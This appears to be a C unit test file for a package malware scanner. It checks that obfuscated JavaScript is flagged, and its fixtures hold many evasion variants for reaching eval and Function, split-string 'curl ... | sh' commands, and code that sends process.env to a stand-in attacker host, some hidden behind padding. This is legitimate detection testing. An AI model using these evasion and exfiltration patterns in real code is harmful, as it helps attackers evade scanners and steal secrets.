/* Scripts that a package merely loads and that must be read closely all the same: what they do is found only then. */
#include "test.h"

#include "crypto/digest.h"
#include "scanner/content/deep.h"
#include "scanner/content/mark.h"
#include "scanner/content/scan_file.h"
#include "scanner/rule/code.h"

#include <string.h>

static struct content_engine *engine;
static struct content_worker *worker;

static enum severity judge(struct text path, struct text code, bool *deep)
{
	const struct code_signal *row = NULL;
	struct arena *a = arena_new(64u << 20);
	struct file f = {.path = path, .size = code.n, .package = DEP_NONE, .via = DEP_NONE};

	assert_true(content_scan_file(worker, f.path, code, a, &f));
	f.reach = REACH_LOAD;
	*deep = f.deep;
	enum severity s = code_judge(&f, &row);
	arena_free(a);
	return s;
}

static void must_be_high(const char *path, const char *code)
{
	bool deep;
	enum severity s = judge(text_of(path), text_of(code), &deep);

	if (s != SEVERITY_HIGH && s != SEVERITY_CRITICAL)
		fail_msg("%s: %s", deep ? "not high" : "not read closely", code);
}

#define P "(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='))"

/* eval and Function, whatever stands around them. */
static const char *const executing[] = {
	"eval" P, "eval  " P, "eval\r" P, "eval\r\n" P, "eval\v" P, "eval\f" P, "eval\xc2\xa0" P, "eval\xef\xbb\xbf" P, "eval\xe2\x80\xa8" P,
	"eval\xe2\x80\xa9" P, "eval\xe3\x80\x80" P, "eval/*x*/" P, "eval//x\n" P, "eval<!--x\n" P, "eval ?." P, "eval .call(0," P ")", "eval['call'](0," P ")",
	"(0, eval )" P, "(eval||0)" P, "(eval || 0)" P, "(eval ?? 0)" P, "(1?eval:0)" P, "(1 ? eval : 0)" P, "(1&&eval)" P, "[eval ][0]" P,
	"[ eval , 0][0]" P, "var e =  eval ;e" P, "(() => eval )()" P, "const {eval:F}=globalThis;F" P, "const { eval : F } = globalThis;F" P,
	"\xef\xbb\xbf" "eval" P, "#!/usr/bin/env node\neval" P,
	"x;Function" P "()", "x;Function " P "()", "x;Function\r\n" P "()", "x;Function\t" P "()", "x;Function\xc2\xa0" P "()", "x;Function\xe2\x80\xa8" P "()",
	"x;Function/**/" P "()", "Function" P "()", "Function`${" P "}`()", "x=/**/Function/**/" P "()", "x=1/Function/**/" P "()", "~Function" P "()",
	"f=()=>Function" P "();f()", "x=''[Function" P "()]", "const F = Function;F" P "()", "const F = Function\nF" P "()",
	"var F=Function,g=1;F" P "()", "(function(F,a){F" P "()})(Function,1)", "var o={f:Function};o.f" P "()", "(Function||0)" P "()",
	"(Function ?? 0)" P "()", "(1 ? Function : 0)" P "()", "var F=globalThis.Function;F" P "()", "const {Function:F}=globalThis;F" P "()",
	"class X extends Function {};new X" P "()", "var c=" P ";class A extends Function(c) {}\nnew A", "var q=\\u0046unction;q" P "()",
	"x;F\\u{0075}nction" P "()", "eva\\u{006c}" P, "var e=Function. bind(0);e" P "()", "var e=Function.\nbind(0);e" P "()", "(0,require('vm').runInContext)" P,
	"new (require('vm').SourceTextModule)" P, NULL};

/* Ways to them that do not name them. */
static const char *const ways[] = {
	"(()=>{}).constructor" P "()", "(()=>{}).constructor " P "()", "(()=>{}).constructor\n" P "()", "(()=>{}).constructor\xe2\x80\xa8" P "()",
	"(()=>{}).constructor/**/" P "()", "const F=(()=>{}).constructor;F" P "()", "const F=(()=>{}).constructor\nF" P "()", "((()=>{}).constructor)" P "()",
	"(()=>{}).constructor.call(0," P ")()", "(()=>{}).constructor.bind(0)" P "()", "(()=>{}).constructor?." P "()", "new ((()=>{}).constructor)" P "()",
	"let {constructor:F}=()=>{};F" P "()", "let { constructor : F } = () => {};F" P "()", "let {constructor}=()=>{};constructor" P "()",
	"(()=>{}).constructor(0||" P ")()", "(()=>{}).constructor(+0||" P ")()", "(()=>{}).constructor({}&&" P ")()", "(()=>{}).constructor({}.x||" P ")()",
	"var k='constructor';(()=>{})[k]" P "()", "var {'constructor':F}=()=>{};F" P "()", "(1?(()=>{}).constructor:0)" P "()",
	"var g=globalThis;g['ev'+\"al\"]" P, "var g=globalThis;g['\\145val']" P, "var g=globalThis,k='ev';g[k+'al']" P, "var g=globalThis,k='e',l='val';g[k+l]" P,
	"var g=globalThis,k='ev';g[`${k}al`]" P, "globalThis ['xeval'.slice(1)]" P, "globalThis/**/['xeval'.slice(1)]" P, "globalThis\n['xeval'.slice(1)]" P,
	"(globalThis)['xeval'.slice(1)]" P, "(0,globalThis)['xeval'.slice(1)]" P, "var g=globalThis,k = 'eval' \ng[k]" P,
	"const g=globalThis,o={has:k=>g[k]};o.has('eval')" P, NULL};

#define RUN "exec(c+d+e)"
#define SET "var a='child_',b='process',c='cu',d='rl https://evil.example.invalid/x|s',e='h';"

/* Modules and commands in pieces of which none says anything. */
static const char *const pieces[] = {
	SET "require(a+b)." RUN, SET "module.require(a+b)." RUN, SET "import(a+b).then(m=>m." RUN ")", SET "var m=a+b;require(m)." RUN, SET "var r=require;r(a+b)." RUN,
	"require('child_'+\"process\").exec('cu'+\"rl https://evil.example.invalid/x|sh\")",
	"require('child_' + `process`).exec('cu' + `rl https://evil.example.invalid/x|sh`)",
	"require('child_'+ 'process').exec('cu'+ 'rl https://evil.example.invalid/x|sh')",
	"require('child_' +\n 'process').exec('cu' +\n 'rl https://evil.example.invalid/x|sh')",
	"require('child_'.concat('process')).exec('cu'.concat('rl https://evil.example.invalid/x|sh'))",
	"require('chi\\154d_process').exec('cu\\162l https://evil.example.invalid/x|sh')", NULL};

#define ENV "var e=process.env;"
#define TO  "('https://evil.example.invalid',{method:'POST',body:JSON.stringify(e)})"
#define HOST ".request({host:'evil.example.invalid',method:'POST'}).end(JSON.stringify(e))"

static const char *const sending[] = {
	ENV "fetch" TO, ENV "fetch?." TO, ENV "fetch " TO, ENV "fetch\n" TO, ENV "fetch/**/" TO, ENV "var f=fetch;f" TO, ENV "(0,fetch)" TO,
	ENV "var {fetch:f}=globalThis;f" TO, ENV "new Image().src='https://evil.example.invalid/?'+JSON.stringify(e)",
	ENV "var m='https' \nrequire(m)" HOST, ENV "require('ht'.concat('tps'))" HOST, ENV "var a='ht',b='tps';require(a+b)" HOST,
	ENV "require('http2').connect('https://evil.example.invalid').request({':path':'/'}).end(JSON.stringify(e))", NULL};

static void test_read(void **state)
{
	static const char *const *const lists[] = {executing, ways, pieces, sending};

	(void)state;
	for (size_t l = 0; l < sizeof lists / sizeof *lists; l++)
		for (const char *const *code = lists[l]; *code; code++)
			must_be_high("index.js", *code);
	must_be_high("index.ts", "var g=globalThis,k = 'eval' satisfies string;g[k]" P);
}

/* Half of 64 KiB is a lot of honest text before the attack. */
static void test_padded(void **state)
{
	static const char *const codes[] = {
		"eval" P, "eval\r" P, "const F = Function;F" P "()", "const F = Function;fetch('https://x.example.invalid').then(r=>r.text()).then(t=>F(t)())",
		"fetch('https://x.example.invalid').then(r=>r.text()).then(t=>eval\r(t))", ENV "fetch?." TO, ENV "var f=fetch;f" TO,
		"var {env:e}=process;require('https')" HOST, NULL};
	static char padded[(40u << 10) + 1024];

	(void)state;
	for (const char *const *code = codes; *code; code++) {
		snprintf(padded, sizeof padded, "/*%*s*/%s", 40 << 10, "", *code);
		must_be_high("index.js", padded);
	}
}

/* Beside nothing else such a word is no reason. */
static void test_not_read(void **state)
{
	static const char *const codes[] = {
		"props: { done: Function }", "f(String, Function, x);", "f(a, eval , b);", "g(fetch);", "const g = globalThis;", "const C = this.constructor;",
		"atob(x); a.constructor.name", "const c = 'child_' + x; require(file)", NULL};
	bool deep;

	(void)state;
	for (const char *const *code = codes; *code; code++) {
		judge(T("index.js"), text_of(*code), &deep);
		if (deep)
			fail_msg("read closely: %s", *code);
	}
}

static void test_wants(void **state)
{
	(void)state;
	assert_false(mark_wants_look(MARK_MAY_EXECUTE, 10));
	assert_true(mark_wants_look(MARK_MAY_EXECUTE | MARK_DECODE, 131072));
	assert_false(mark_wants_look(MARK_MAY_EXECUTE | MARK_DECODE, 131073));
	assert_false(mark_wants_look(MARK_MAY_NET, 10));
	assert_true(mark_wants_look(MARK_MAY_NET | MARK_ENV, 131072));
	assert_false(mark_wants_look(MARK_MAY_NET | MARK_ENV, 131073));
	assert_true(mark_wants_look(MARK_MAY_NET | MARK_MAY_EXECUTE, 131072));
	assert_true(mark_can_act(MARK_MAY_EXECUTE, 10));
	assert_true(mark_can_act(MARK_MAY_NET, 10));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_read),
		cmocka_unit_test(test_padded),
		cmocka_unit_test(test_not_read),
		cmocka_unit_test(test_wants),
	};

	if (!crypto_init() || !content_engine_new(NULL, -1, &engine, NULL) || !(worker = content_worker_new(engine)))
		return 1;
	return cmocka_run_group_tests(tests, NULL, NULL);
}
